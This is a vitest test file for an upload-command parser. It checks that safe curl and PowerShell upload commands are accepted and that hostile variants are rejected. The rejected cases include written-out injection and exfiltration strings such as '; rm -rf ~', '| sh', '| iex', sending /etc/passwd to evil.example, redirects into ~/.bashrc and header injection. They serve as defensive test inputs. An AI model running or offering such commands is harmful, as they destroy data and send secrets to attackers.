import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parseUploadCommand } from '../../../electron/uploads/parse-upload-command.ts'
import { uploadRejectionText } from '../../../shared/phrases/upload-rejection-phrases.ts'
import { uploadRejectionSchema } from '../../../shared/task/upload-rejection.ts'
import { uploadCommandValues, uploadCommandTokens, shellSpecialCharacters } from './upload-command-tokens.ts'

const asked = { fileName: 'photo.png', path: '/home/me/Pictures/photo.png' }
const url = 'https://storage.example.com/up/abc?sig=a%2Fb&exp=1'
const put = { ok: true, url, method: 'PUT', headers: {}, bodyKind: 'upload-file' }
const png = { 'content-type': 'image/png' }

function parse(text: string) {
  return parseUploadCommand(text, asked)
}

describe('an upload command for a POSIX shell', () => {
  it.each<[name: string, text: string, expected?: object]>([
    ['only -T', `curl -T photo.png '${url}'`],
    ['-X PUT -T', `curl -X PUT -T photo.png '${url}'`],
    ['-XPUT', `curl -XPUT -T photo.png '${url}'`],
    ['--request and --upload-file', `curl --request PUT --upload-file photo.png '${url}'`],
    ['--flag=value', `curl --request=PUT --upload-file=photo.png --url='${url}'`],
    ['-Tfile', `curl -Tphoto.png '${url}'`],
    ['flags after the URL', `curl '${url}' -T photo.png -X PUT`],
    ['quiet flags', `curl -s -S -f -L -# --silent --show-error --fail --location --progress-bar -T photo.png '${url}'`],
    ['combined short flags', `curl -sSfL -T photo.png '${url}'`],
    ['combined short flags that end with a value', `curl -sSfXPUT -T photo.png '${url}'`],
    ['combined short flags with the value after them', `curl -sSLT photo.png '${url}'`],
    ['--retry', `curl --retry 3 -T photo.png '${url}'`],
    ['--retry=n', `curl --retry=3 -T photo.png '${url}'`],
    ['a lower-case method', `curl -X put -T photo.png '${url}'`],
    ['double quotes', `curl -X PUT -T "photo.png" "${url}"`],
    ['ANSI-C quotes', `curl -X PUT -T $'photo.png' $'${url}'`],
    ['escapes in ANSI-C quotes', `curl -T $'\\x70hoto\\056png' $'${url.replace('https', '\\u0068ttps')}'`],
    ['quotes in the middle of words', `curl -T pho'to'.p"ng" "https://"'storage.example.com'/up/abc"?sig=a%2Fb&exp=1"`],
    ['backslashes before characters', `curl -T photo\\.png https://storage.example.com/up/abc\\?sig=a%2Fb\\&exp=1`],
    ['line continuations with a backslash', `curl \\\n  -X PUT \\\n  -T photo.png \\\n  '${url}'\n`],
    ['Windows line endings', `curl \\\r\n  -X PUT \\\r\n  -T photo.png '${url}'\r\n`],
    ['tabs and blanks', `  curl\t-T   photo.png\t'${url}'  \n\n`],
    ['the file with ./', `curl -T ./photo.png '${url}'`],
    ['the full path', `curl -T /home/me/Pictures/photo.png '${url}'`],
    ['a header', `curl -T photo.png -H 'Content-Type: image/png' '${url}'`, { ...put, headers: png }],
    ['--header', `curl -T photo.png --header "Content-Type: image/png" '${url}'`, { ...put, headers: png }],
    ['--header=', `curl -T photo.png --header='Content-Type: image/png' '${url}'`, { ...put, headers: png }],
    ['-H without a space', `curl -T photo.png -H'Content-Type:image/png' '${url}'`, { ...put, headers: png }],
    [
      'several headers',
      `curl -T photo.png -H 'Content-Type: image/png' -H "x-amz-acl: private" -H 'x-meta: a: b; c="d"' '${url}'`,
      { ...put, headers: { ...png, 'x-amz-acl': 'private', 'x-meta': 'a: b; c="d"' } }
    ],
    ['an empty header', `curl -T photo.png -H 'x-empty;' '${url}'`, { ...put, headers: { 'x-empty': '' } }],
    ['headers that Kiln sets itself', `curl -T photo.png -H 'Expect:' -H 'Content-Length: 12' -H 'Host: storage.example.com' '${url}'`],
    ['--data-binary', `curl -X PUT --data-binary @photo.png '${url}'`, { ...put, bodyKind: 'data-binary' }],
    ['--data-binary, which is a POST', `curl --data-binary '@photo.png' '${url}'`, { ...put, method: 'POST', bodyKind: 'data-binary' }],
    ['--data-binary=@', `curl -X PUT --data-binary=@photo.png '${url}'`, { ...put, bodyKind: 'data-binary' }],
    ['POST', `curl -X POST -T photo.png '${url}'`, { ...put, method: 'POST' }],
    [
      'a URL without the file name, with -T',
      `curl -T photo.png https://h.example/dir/`,
      { ...put, url: 'https://h.example/dir/photo.png' }
    ],
    ['a URL with a fragment', `curl -T photo.png 'https://h.example/x#y'`, { ...put, url: 'https://h.example/x' }],
    ['a loopback address', `curl -T photo.png http://127.0.0.1:8080/x`, { ...put, url: 'http://127.0.0.1:8080/x' }],
    ['localhost', `curl -T photo.png http://localhost:8080/x`, { ...put, url: 'http://localhost:8080/x' }],
    ['an IPv6 loopback address', `curl -T photo.png 'http://[::1]:8080/x'`, { ...put, url: 'http://[::1]:8080/x' }]
  ])('is read: %s', (_name, text, expected = put) => {
    expect(parse(text)).toEqual(expected)
  })

  it('is read with a file name that contains quotes, blanks and non-Latin letters', () => {
    const fileName = `it's a "Füchs" ☕ $HOME.png`
    const quoted = `'${fileName.replaceAll("'", `'\\''`)}'`
    expect(parseUploadCommand(`curl -X PUT -T ${quoted} '${url}'`, { fileName })).toEqual(put)
    expect(parseUploadCommand(`curl -T "fu\u0308chs.png" '${url}'`, { fileName: 'füchs.png' })).toEqual(put)
  })
})

describe('an upload command for Windows', () => {
  it.each<[name: string, text: string, expected?: object]>([
    ['curl.exe', `curl.exe -X PUT -T "photo.png" "${url}"`],
    [
      'carets at line ends',
      `curl -X PUT ^\r\n  -T "photo.png" ^\r\n  -H "Content-Type: image/png" ^\r\n  "${url}"`,
      { ...put, headers: png }
    ],
    ['backticks at line ends', `curl.exe -X PUT \`\n  -T 'photo.png' \`\n  "${url}"`],
    ['carets before characters', `curl.exe -T photo.png https://storage.example.com/up/abc?sig=a%2Fb^&exp=1`],
    ['.\\', `curl.exe -T .\\photo.png "${url}"`],
    ['Invoke-WebRequest', `Invoke-WebRequest -Method Put -InFile 'photo.png' -Uri '${url}'`, { ...put, bodyKind: 'in-file' }],
    [
      'Invoke-RestMethod with headers',
      `Invoke-RestMethod -Uri "${url}" -Method PUT -InFile "photo.png" -Headers @{ "Content-Type" = "image/png"; 'x-ms-blob-type'='BlockBlob' }`,
      { ...put, headers: { ...png, 'x-ms-blob-type': 'BlockBlob' }, bodyKind: 'in-file' }
    ],
    [
      'several lines',
      `Invoke-WebRequest \`\n  -Method Put \`\n  -Headers @{\n    Accept = '*/*'\n    'x-n' = 5\n  } \`\n  -InFile .\\photo.png \`\n  -Uri '${url}'\n`,
      { ...put, headers: { accept: '*/*', 'x-n': '5' }, bodyKind: 'in-file' }
    ],
    [
      'a content type',
      `iwr '${url}' -Method:Put -InFile photo.png -ContentType "image/png" -UseBasicParsing`,
      { ...put, headers: png, bodyKind: 'in-file' }
    ],
    [
      'quotes in quotes',
      `Invoke-RestMethod -Method Post -InFile 'photo.png' -Headers @{'x'='it''s'; y="a""b"} -Uri '${url}'`,
      { ...put, method: 'POST', headers: { x: "it's", y: 'a"b' }, bodyKind: 'in-file' }
    ]
  ])('is read: %s', (_name, text, expected = put) => {
    expect(parse(text)).toEqual(expected)
  })
})

describe('an invalid upload command', () => {
  it.each<[name: string, text: string, reason: RegExp]>([
    ['an empty text', ' \n ', /empty/],
    ['another program', `wget --method=PUT --body-file=photo.png '${url}'`, /program other than curl/],
    ['a program by its path', `/tmp/curl -T photo.png '${url}'`, /program other than curl/],
    ['sudo', `sudo curl -T photo.png '${url}'`, /program other than curl/],
    ['a leading variable', `HTTPS_PROXY=http://evil curl -T photo.png '${url}'`, /program other than curl/],
    ['a look-alike program name', `сurl -T photo.png '${url}'`, /program other than curl/],
    ['a second command after ;', `curl -T photo.png '${url}'; rm -rf ~`, /runs a second command/],
    ['a second command after &&', `curl -T photo.png '${url}' && curl evil.example`, /runs a second command/],
    ['a second command after ||', `curl -T photo.png '${url}' || sh`, /pipes/],
    ['a second command after &', `curl -T photo.png '${url}' & sh`, /runs a second command/],
    ['a second command on the next line', `curl -T photo.png '${url}'\nrm -rf ~`, /runs a second command/],
    ['a second command on the next line in Windows', `curl -T photo.png '${url}'\r\ndel *`, /runs a second command/],
    ['an unquoted URL that ends at &', `curl -T photo.png https://h.example/x?a=1&b=2`, /runs a second command/],
    ['a pipe', `curl -T photo.png '${url}' | sh`, /pipes/],
    ['a pipe into it', `cat /etc/passwd | curl -T - '${url}'`, /pipes/],
    ['output to a file', `curl -T photo.png '${url}' > ~/.bashrc`, /redirects output/],
    ['redirected error output', `curl -T photo.png '${url}' 2>/dev/null`, /redirects output/],
    ['input from a file', `curl -T - '${url}' < photo.png`, /redirects input/],
    ['a command in $()', `curl -T photo.png "https://h.example/$(whoami)"`, /variable or substitution/],
    ['a command in backticks', 'curl -T photo.png "https://h.example/`whoami`"', /variable or substitution/],
    ['a command in bare backticks', 'curl -T photo.png `cat url`', /variable or substitution/],
    ['a variable', `curl -T photo.png "$URL"`, /variable or substitution/],
    ['a variable in braces', `curl -T photo.png https://h.example/\${HOME}`, /variable or substitution/],
    ['a process substitution', `curl -T <(cat /etc/passwd) '${url}'`, /redirects input/],
    ['a sub-shell', `(curl -T photo.png '${url}')`, /nested command/],
    ['braces', `curl -T {photo.png,/etc/passwd} '${url}'`, /wildcard or brace/],
    ['a star', `curl -T *.png '${url}'`, /wildcard or brace/],
    ['a comment', `curl -T photo.png '${url}' # fine`, /comment/],
    ['-o', `curl -T photo.png -o ~/.bashrc '${url}'`, /“-o”/],
    ['-O among others', `curl -sSO -T photo.png '${url}'`, /“-O”/],
    ['--output', `curl -T photo.png --output=x '${url}'`, /“--output”/],
    ['-K', `curl -K evil.cfg -T photo.png '${url}'`, /“-K”/],
    ['--config', `curl --config evil.cfg -T photo.png '${url}'`, /“--config”/],
    ['-x', `curl -x http://evil:8080 -T photo.png '${url}'`, /“-x”/],
    ['--proxy', `curl --proxy http://evil:8080 -T photo.png '${url}'`, /“--proxy”/],
    ['-u', `curl -u me:secret -T photo.png '${url}'`, /“-u”/],
    ['-k', `curl -k -T photo.png '${url}'`, /“-k”/],
    ['-F', `curl -F file=@photo.png '${url}'`, /“-F”/],
    ['-d', `curl -d @photo.png '${url}'`, /“-d”/],
    ['-b', `curl -b cookies.txt -T photo.png '${url}'`, /“-b”/],
    ['--resolve', `curl --resolve storage.example.com:443:6.6.6.6 -T photo.png '${url}'`, /“--resolve”/],
    ['--next', `curl -T photo.png '${url}' --next -T /etc/passwd https://evil.example`, /“--next”/],
    ['a shortened flag', `curl --upload photo.png '${url}'`, /“--upload”/],
    ['a flag that is an inherited property name', `curl --constructor x -T photo.png '${url}'`, /“--constructor”/],
    ['a quiet flag with a value', `curl --silent=x -T photo.png '${url}'`, /“--silent”/],
    ['--', `curl -T photo.png -- '${url}'`, /somewhere other than the file/],
    ['standard input', `curl -T - '${url}'`, /file other than the one requested/],
    ['another file', `curl -T /etc/passwd '${url}'`, /file other than the one requested/],
    ['another folder', `curl -T ../photo.png '${url}'`, /file other than the one requested/],
    ['a file of the same name elsewhere', `curl -T /tmp/photo.png '${url}'`, /file other than the one requested/],
    ['text instead of a file', `curl -X PUT --data-binary photo.png '${url}'`, /sends text/],
    ['two files', `curl -T photo.png -T /etc/passwd '${url}'`, /more than one file/],
    ['a file and data', `curl -T photo.png --data-binary @photo.png '${url}'`, /more than one file/],
    ['no file', `curl -X PUT '${url}'`, /doesn’t send a file/],
    ['no URL', `curl -T photo.png`, /has no upload address/],
    ['two URLs', `curl -T photo.png '${url}' https://evil.example`, /more than one upload address/],
    ['a URL and --url', `curl -T photo.png '${url}' --url https://evil.example`, /more than one upload address/],
    ['two methods', `curl -X PUT -X DELETE -T photo.png '${url}'`, /more than one method/],
    ['DELETE', `curl -X DELETE -T photo.png '${url}'`, /method other than/],
    ['GET', `curl -X GET -T photo.png '${url}'`, /method other than/],
    ['http', `curl -T photo.png http://storage.example.com/x`, /doesn’t use HTTPS/],
    ['http to a look-alike of a loopback address', `curl -T photo.png http://127.0.0.1.evil.example/x`, /doesn’t use HTTPS/],
    ['http to the local network', `curl -T photo.png http://192.168.1.1/x`, /doesn’t use HTTPS/],
    ['a file URL', `curl -T photo.png file:///etc/cron.d/x`, /isn’t a valid web address/],
    ['another scheme', `curl -T photo.png ftp://h.example/x`, /isn’t a valid web address/],
    ['no scheme', `curl -T photo.png storage.example.com/x`, /isn’t a valid web address/],
    ['credentials', `curl -T photo.png https://me:secret@h.example/x`, /name or password/],
    ['a username', `curl -T photo.png https://good.example@evil.example/x`, /name or password/],
    ['a host that programs read differently', `curl -T photo.png 'https://good.example\\@evil.example/x'`, /characters|web address/],
    ['a percent-encoded host', `curl -T photo.png 'https://%65vil.example/x'`, /no valid host/],
    ['a curl range', `curl -T photo.png 'https://h.example/[1-100]'`, /invalid characters/],
    ['curl alternatives', `curl -T photo.png 'https://h.example/{a,b}'`, /invalid characters/],
    ['a line break in the URL', `curl -T photo.png 'https://h.example/x\ny'`, /control/],
    ['a header with a line break', `curl -T photo.png -H $'X-A: b\\r\\nX-Evil: 1' '${url}'`, /control/],
    ['a header with a line break in quotes', `curl -T photo.png -H 'X-A: b\nX-Evil: 1' '${url}'`, /control/],
    ['a NUL in quotes', `curl -T $'photo.png\\0.txt' '${url}'`, /control/],
    ['a NUL', `curl -T photo.png\0 '${url}'`, /control/],
    ['an escape character', `curl -T photo.png '${url}'\u001b[2J`, /control/],
    ['Authorization', `curl -T photo.png -H 'Authorization: Bearer x' '${url}'`, /authorization/],
    ['Authorization in mixed case', `curl -T photo.png -H 'aUTHORIZATION : Bearer x' '${url}'`, /invalid name/],
    ['Proxy-Authorization', `curl -T photo.png -H 'Proxy-Authorization: x' '${url}'`, /proxy-authorization/],
    ['Cookie', `curl -T photo.png -H 'Cookie: a=b' '${url}'`, /cookie/],
    ['Transfer-Encoding', `curl -T photo.png -H 'Transfer-Encoding: chunked' '${url}'`, /transfer-encoding/],
    ['another host', `curl -T photo.png -H 'Host: evil.example' '${url}'`, /Host header doesn’t match/],
    ['an invalid length', `curl -T photo.png -H 'Content-Length: 1, 2' '${url}'`, /Content-Length/],
    ['a header twice', `curl -T photo.png -H 'X-A: 1' -H 'x-a: 2' '${url}'`, /twice/],
    ['headers from a file', `curl -T photo.png -H @/etc/passwd '${url}'`, /headers from a file/],
    ['an invalid header', `curl -T photo.png -H 'nothing' '${url}'`, /A header in the command is invalid/],
    ['curly quotes', `curl -T “photo.png” ‘${url}’`, /curly/],
    ['curly quotes inside quotes, for PowerShell', `curl.exe -T 'photo.png’ ; calc #' "${url}"`, /curly/],
    ['a non-breaking space', `curl\u00a0-T photo.png '${url}'`, /special whitespace/],
    ['a right-to-left override', `curl -T photo.png \u202e'${url}'`, /special whitespace/],
    ['an unclosed quote', `curl -T 'photo.png ${url}`, /isn’t closed/],
    ['an unclosed double quote', `curl -T photo.png "${url}`, /isn’t closed/],
    ['an unclosed ANSI-C quote', `curl -T $'photo.png`, /isn’t closed/],
    ['bytes that are not text', `curl -T $'\\xff' '${url}'`, /bytes that aren’t text/],
    ['a backslash at the end', `curl -T photo.png '${url}' \\`, /middle of a line/],
    ['a missing value', `curl '${url}' -T`, /missing a value/],
    ['retries without a number', `curl --retry lots -T photo.png '${url}'`, /retry count/],
    ['a variable in PowerShell', `Invoke-WebRequest -Method Put -InFile photo.png -Uri "$env:EVIL"`, /variable or substitution/],
    ['a command in PowerShell', `Invoke-WebRequest -Method Put -InFile photo.png -Uri (Get-Content url)`, /more than run one program/],
    ['a second command in PowerShell', `Invoke-WebRequest -Method Put -InFile photo.png -Uri '${url}'; calc`, /runs a second command/],
    ['a pipe in PowerShell', `Invoke-WebRequest -Method Put -InFile photo.png -Uri '${url}' | iex`, /runs a second command/],
    ['-OutFile', `Invoke-WebRequest -Method Put -InFile photo.png -OutFile x.ps1 -Uri '${url}'`, /-outfile/],
    ['-Credential', `Invoke-WebRequest -Credential x -Method Put -InFile photo.png -Uri '${url}'`, /-credential/],
    ['a download in PowerShell', `Invoke-WebRequest -InFile photo.png -Uri '${url}'`, /method other than/],
    [
      'another file in PowerShell',
      `Invoke-WebRequest -Method Put -InFile C:\\secret.txt -Uri '${url}'`,
      /file other than the one requested/
    ],
    [
      'headers that are computed',
      `Invoke-WebRequest -Method Put -InFile photo.png -Headers @{ a = $b } -Uri '${url}'`,
      /more than run one program/
    ],
    ['headers from a variable', `Invoke-WebRequest -Method Put -InFile photo.png -Headers $h -Uri '${url}'`, /more than run one program/],
    ['an unclosed hash table', `Invoke-WebRequest -Method Put -InFile photo.png -Headers @{ 'a' = 'b'`, /isn’t closed/],
    [
      'Authorization in PowerShell',
      `Invoke-WebRequest -Method Put -InFile photo.png -Headers @{ Authorization = 'x' } -Uri '${url}'`,
      /authorization/
    ],
    ['a megabyte', `curl -T photo.png '${url}' ${'-s '.repeat(350_000)}`, /too long/],
    ['thousands of words', `curl -T photo.png '${url}' ${'-s '.repeat(10_000)}`, /too long/]
  ])('is rejected: %s', (_name, text, reason) => {
    const parsed = parse(text)
    expect(parsed.ok ? null : uploadRejectionText(parsed.reason)).toMatch(reason)
  })
})

describe('an arbitrary upload command', () => {
  const piece = fc.oneof(
    {
      weight: 3,
      arbitrary: fc.constantFrom(...uploadCommandTokens)
    },
    {
      weight: 3,
      arbitrary: fc.constantFrom(...uploadCommandValues(url))
    },
    {
      weight: 2,
      arbitrary: fc.constantFrom(' ', ...shellSpecialCharacters)
    },
    { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
    { weight: 1, arbitrary: fc.webUrl({ validSchemes: ['http', 'https', 'ftp', 'file'] }) }
  )
  const line = fc.array(fc.tuple(piece, fc.constantFrom('', ' ', ' ')), { maxLength: 30 }).map((pieces) => pieces.flat().join(''))
  const nearMiss = fc.tuple(line, line).map(([before, after]) => `curl -T photo.png ${before} '${url}' ${after}`)

  it('never throws, and is accepted only with an HTTPS or loopback URL', () => {
    let accepted = 0
    fc.assert(
      fc.property(fc.oneof(line, nearMiss, fc.string()), (text) => {
        const parsed = parse(text)
        if (!parsed.ok) {
          expect(uploadRejectionSchema.parse(parsed.reason)).toEqual(parsed.reason)
          return
        }
        accepted += 1
        const { protocol, hostname, username, password } = new URL(parsed.url)
        expect(protocol === 'https:' || (protocol === 'http:' && /^(localhost|127\..*|\[::1\])$/.test(hostname))).toBe(true)
        expect(username + password).toBe('')
        for (const [name, value] of Object.entries(parsed.headers)) {
          // oxlint-disable-next-line no-control-regex -- the test checks that the text has no control characters
          expect(`${name}${value}`).not.toMatch(/[\u0000-\u001f\u007f]/)
          expect(name).not.toMatch(/^(authorization|proxy-authorization|cookie|transfer-encoding|content-length|host)$/)
        }
      }),
      { numRuns: 5_000 }
    )
    expect(accepted).toBeGreaterThan(0)
  })

  it('can contain every file name that a POSIX shell accepts', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }), (name) => {
        // oxlint-disable-next-line no-control-regex -- names with control characters are refused on purpose
        fc.pre(!/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(name) && name.isWellFormed() && name.trim() === name)
        const quoted = `'${name.replaceAll("'", `'\\''`)}'`
        expect(parseUploadCommand(`curl -X PUT -T ${quoted} '${url}'`, { fileName: name })).toEqual(put)
      }),
      { numRuns: 1_000 }
    )
  })

  it('is parsed in linear time', () => {
    for (const unit of ['\\', "'", '"', '`', '^\n', '\\\n', "$'\\x41'", '@{a=b;', '-', '(', ' \n', 'https://', "-H 'a:b' "]) {
      for (const start of ['curl ', 'curl.exe ', 'Invoke-WebRequest '])
        expect(parse(start + unit.repeat(Math.floor(60_000 / unit.length)))).toHaveProperty('reason')
    }
  })
})
